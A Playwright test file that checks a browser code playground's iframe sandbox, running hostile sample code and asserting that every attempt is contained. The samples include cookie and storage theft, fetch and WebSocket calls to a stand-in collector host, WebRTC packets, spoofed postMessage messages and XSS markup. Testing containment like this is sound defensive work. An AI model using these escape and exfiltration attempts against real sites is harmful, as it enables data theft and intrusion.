import { createSocket } from 'node:dgram';
import { openPlayground, openProject, preview } from '#tests/setup/playground.ts';
import { markDocument, hasMarkedDocument } from '#tests/setup/openPage.ts';
import { expect, test } from '#tests/setup/quietPage.ts';

/** Each try succeeds for the attacker when it returns; it must throw, or answer nothing. */
const attack = `
const tries = {
  'parent document': () => parent.document.title,
  'parent storage': () => parent.localStorage.length,
  'frame element': () => { if (!window.frameElement) throw new Error('hidden'); },
  'top location': () => { top.location.href = 'about:blank'; },
  'parent location': () => parent.location.href,
  'parent replace': () => { parent.location.replace('/x'); },
  'own cookie': () => document.cookie,
  'set cookie': () => { document.cookie = 'stolen=1;path=/'; },
  'local storage': () => localStorage.getItem('mui-mode'),
  'session storage': () => sessionStorage.length,
  'caches': async () => { await caches.keys(); },
  'database': () => new Promise((resolve, reject) => {
    const request = indexedDB.open('x');
    request.onsuccess = resolve;
    request.onerror = () => reject(request.error);
  }),
  'service worker': () => navigator.serviceWorker.register('/x.js'),
  'fetch': async () => { await fetch('/page-index/en.json'); },
  'fetch elsewhere': async () => { await fetch('https://collector.example/?q=1', { mode: 'no-cors' }); },
  'request': () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('GET', '/page-index/en.json');
    request.onload = resolve;
    request.onerror = reject;
    request.send();
  }),
  'socket': () => new Promise((resolve, reject) => {
    const socket = new WebSocket('wss://collector.example/');
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  'image': () => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = resolve;
    image.onerror = reject;
    image.src = '/static/icon-192.png?stolen';
  }),
  'popup': () => { if (!window.open('/x')) throw new Error('blocked'); },
  'nested frame': () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.src = '/x';
    frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } };
    document.body.append(frame);
    setTimeout(() => reject(new Error('nothing loaded')), 1000);
  }),
};

export default function App() {
  return <ul ref={(list) => {
    if (!list || list.dataset.started) return;
    list.dataset.started = '';
    Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
      let outcome = 'REACHED';
      try { await attempt(); } catch { outcome = 'contained'; }
      const item = document.createElement('li');
      item.textContent = name + ': ' + outcome;
      list.append(item);
    })).then(() => { list.dataset.done = ''; });
    const form = document.createElement('form');
    form.action = '/posted';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    alert('hello');
  }} />;
}
`;

test('a hostile link reaches nothing outside its frame', async ({ page, context, noise }) => {
  // The browser reports everything it refuses.
  noise.allow(/^request failed: .* \(csp\)$/);
  noise.allow(/sandbox\/frame\.html|about:blank|collector\.example|live:\/\/\//);
  noise.allow(
    /Content Security Policy|sandboxed|Blocked (form|script|opening)|Ignored call|Unsafe attempt/i,
  );
  // A request that is refused never leaves the browser, and so is never answered.
  const answered: string[] = [];
  context.on('response', (response) => answered.push(response.url()));
  let pages = 0;
  context.on('page', () => {
    pages += 1;
  });

  await context.addCookies([{ name: 'secret', value: 'kept', url: 'http://localhost' }]);
  await openProject(page, { 'App.jsx': attack });
  await markDocument(page);
  const address = page.url();
  const list = preview(page).locator('ul[data-done]');
  await expect(list).toBeAttached();
  const outcomes = await list.locator('li').allTextContents();
  expect(outcomes.length).toBe(20);
  expect(outcomes.filter((outcome) => !outcome.endsWith(': contained'))).toEqual([]);

  expect(await hasMarkedDocument(page), 'the page was not replaced').toBe(true);
  expect(page.url()).toBe(address);
  expect(pages, 'no window was opened').toBe(0);
  expect(answered.filter((url) => /collector|posted|stolen|page-index|\/x\.js$/.test(url))).toEqual(
    [],
  );
  const names = (await context.cookies()).map(({ name }) => name);
  expect(names).toContain('secret');
  expect(names).not.toContain('stolen');
});

test('code in the frame sends no packet past the policy, not from a realm of its own either', async ({
  page,
  noise,
}) => {
  noise.allow(/sandbox\/frame\.html|about:blank|live:\/\/\//);
  noise.allow(/Content Security Policy|Connection-?Allowlist|preconnect/i);
  let packets = 0;
  const socket = createSocket('udp4', () => (packets += 1));
  await new Promise<void>((resolve) => {
    socket.bind(0, '127.0.0.1', resolve);
  });
  const { port } = socket.address();
  await openProject(page, {
    'App.jsx': `
const frame = document.createElement('iframe');
document.body.append(frame);
for (const realm of [window, frame.contentWindow]) {
  try {
    const connection = new realm.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
    connection.createDataChannel('x');
    connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(() => {});
  } catch {}
}
export default () => <p>Tried</p>;
`,
  });
  await expect(preview(page).getByText('Tried')).toBeVisible();
  await page.waitForTimeout(2500);
  socket.close();
  expect(packets).toBe(0);
});

test('messages that pretend to come from the frame are not believed', async ({ page }) => {
  await openProject(page, {
    'App.jsx': `
for (const nonce of ['', 'guess', null, undefined]) {
  for (const type of ['failed', 'stalled', 'console', 'height', 'run']) {
    const message = { nonce, type, version: 0, height: 5, level: 'error', text: 'Spoofed',
      error: { message: 'Spoofed', place: null }, project: {} };
    parent.postMessage(message, '*');
    top.postMessage(JSON.stringify(message), '*');
  }
}
parent.postMessage({ type: 'live-code:connect', nonce: 'mine' }, '*');
export default () => <p>Spoofing done</p>;
`,
  });
  await expect(preview(page).getByText('Spoofing done')).toBeVisible();
  await page.waitForTimeout(300);
  await expect(page.locator('[data-status="running"]')).toBeVisible();
  await expect(page.locator('[data-live-error]')).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Console (0)' })).toBeVisible();
});

test('markup in errors, logs and names stays text', async ({ page, noise }) => {
  noise.allow(/^console log: /);
  await openProject(page, {
    'App.jsx': `
const markup = '<img src=x onerror="document.title=1"><script>document.title=2</script>';
console.log(markup);
throw new Error(markup);
`,
  });
  await expect(page.locator('[data-live-error]')).toContainText('<img src=x');
  await page.getByRole('button', { name: 'Console (1)' }).click();
  await expect(page.getByRole('log')).toContainText('<script>');
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  await expect(page).toHaveTitle(/Playground/);
});

test('code that navigates its frame away is stopped until it is changed', async ({
  page,
  noise,
}) => {
  noise.allow(/./);
  await openProject(page, {
    'App.jsx': `location.href = '/x';\nexport default () => <p>Stays</p>;\n`,
  });
  await expect(page.getByText('The code tried to navigate')).toBeVisible();
  await expect(page.getByRole('heading', { level: 1, name: 'Playground' })).toBeVisible();
});

for (const [what, hash, message] of [
  ['garbage', '#code=1.%%%', 'damaged or incomplete'],
  ['a cut link', '#code=1.q1ZKy8xJVbJScixTKkktLlGyUihKTEktUrJSqi0G', 'damaged or incomplete'],
  ['another format', '#code=9.abc', 'does not contain a project'],
  ['an oversized link', `#code=1.${'A'.repeat(40_000)}`, 'larger than the playground accepts'],
] as const) {
  test(`${what} gives a clear message and a blank project`, async ({ page }) => {
    await openPlayground(page, hash);
    await expect(page.getByRole('alert')).toContainText(message);
    await expect(page.getByText('Blank project', { exact: true })).toBeVisible();
    await expect(preview(page).getByText('Picked: nothing yet')).toBeVisible();
    await page.getByRole('button', { name: 'Dismiss' }).click();
    await expect(page.getByRole('alert')).toHaveCount(0);
  });
}
